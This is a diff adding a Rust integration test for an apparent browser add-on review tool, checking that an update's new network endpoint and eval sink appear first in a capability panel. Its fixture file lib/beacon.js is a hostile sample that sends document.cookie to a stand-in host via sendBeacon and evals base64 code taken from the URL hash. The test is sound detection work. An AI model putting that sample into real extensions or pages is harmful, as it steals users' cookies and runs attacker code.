@@ -600,3 +600,58 @@ async fn a_copied_link_opens_the_same_file_at_the_same_line() -> Result<()> {
     })
     .await
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_capability_panel_puts_what_an_update_can_newly_do_first() -> Result<()> {
+    harness::bounded(async {
+        let s = harness::start().await?;
+        let xpis = tempfile::tempdir()?;
+        let v1 = mv2_addon();
+        let mut v2 = next_version(&v1);
+        v2.files.push(AddonFile {
+            path: "lib/beacon.js".into(),
+            data: b"var x = location.hash;\nnavigator.sendBeacon('https://collect.example.net/b', document.cookie);\neval(atob(x));\n".to_vec(),
+        });
+        let p1 = write_xpi(xpis.path(), "v1.xpi", &v1)?;
+        let p2 = write_xpi(xpis.path(), "v2.xpi", &v2)?;
+        open_import(&s).await?;
+        s.import(&p1).await?;
+        s.import(&p2).await?;
+        s.click("[data-testid=open-review]").await?;
+        s.wait_for("[data-testid=review]").await?;
+
+        // The analysis arrives after the review opens; the new host and the new eval lead.
+        eventually(
+            &s,
+            "the new endpoint",
+            "return [...document.querySelectorAll('[data-testid=cap-endpoint-added]')].map(e => e.textContent).find(t => t.includes('collect.example.net')) ? 'listed' : 'absent'",
+            json!("listed"),
+        )
+        .await?;
+        let summary = s.text_of("[data-testid=cap-summary]").await?;
+        ensure!(summary.contains("new sink"), "summary {summary:?}");
+        ensure!(summary.starts_with("risk weight"), "summary {summary:?}");
+        let risk = s.text_of("[data-testid=cap-risk]").await?;
+        ensure!(risk.contains("uses_eval_or_document_write"), "risk table {risk:?}");
+        s.screenshot("review-capabilities").await?;
+
+        // Each fact jumps to its line: the eval sits on line 3 of lib/beacon.js.
+        let clicked = s
+            .script(
+                "const li = [...document.querySelectorAll('[data-testid=cap-sink-added]')].find(e => e.textContent.includes('eval(atob(x))'));
+                 const b = li && li.querySelector('[data-testid=cap-jump]'); if (b) b.click(); return !!b",
+            )
+            .await?;
+        ensure!(clicked == json!(true), "no jump on the eval sink");
+        eventually(&s, "lib/beacon.js opens", PATH_JS, json!("lib/beacon.js")).await?;
+        eventually(
+            &s,
+            "the eval line is shown",
+            "const r = [...document.querySelectorAll('.drow')].find(e => e.textContent.includes('eval(atob(x))')); return r ? 'shown' : 'absent'",
+            json!("shown"),
+        )
+        .await?;
+        s.close().await
+    })
+    .await
+}
